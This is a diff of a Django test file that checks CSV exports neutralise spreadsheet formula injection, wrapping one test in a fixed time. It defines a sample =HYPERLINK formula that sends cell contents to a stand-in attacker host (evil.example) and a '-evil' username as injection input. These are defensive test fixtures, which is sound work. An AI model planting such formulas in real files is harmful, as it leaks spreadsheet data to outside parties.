@@ -4,12 +4,14 @@ import csv
 import io
 
 import pytest
+import time_machine
 from django.test import Client
 
 from core.csv import people_csv_text
 from journals import files
 from operations.services import transaction_refund
 from tests.factories import UserFactory, grant, make_merchant, make_transaction
+from tests.operations.conftest import NOW
 from transactions.models import Status
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"open")'
@@ -68,12 +70,14 @@ def test_the_transactions_export_neutralises_formulas(operator_client):
 
 def test_the_operations_export_neutralises_formulas(operator_client):
     client, shop, user = operator_client
-    t = make_transaction(shop, status=Status.CAPTURED, captured_amount=10000)
-    user.username = "-evil"
-    user.save()
-    transaction_refund(transaction=t, amount=100, user=user, origin="WEB")
+    # A stated morning, out of the remittance window (no operation then).
+    with time_machine.travel(NOW, tick=True):
+        t = make_transaction(shop, status=Status.CAPTURED, captured_amount=10000)
+        user.username = "-evil"
+        user.save()
+        transaction_refund(transaction=t, amount=100, user=user, origin="WEB")
 
-    rows = _rows(client.get("/operations/?export=csv"))
+        rows = _rows(client.get("/operations/?export=csv"))
 
     header, row = rows[0], rows[1]
     assert row[header.index("user")] == "'-evil"
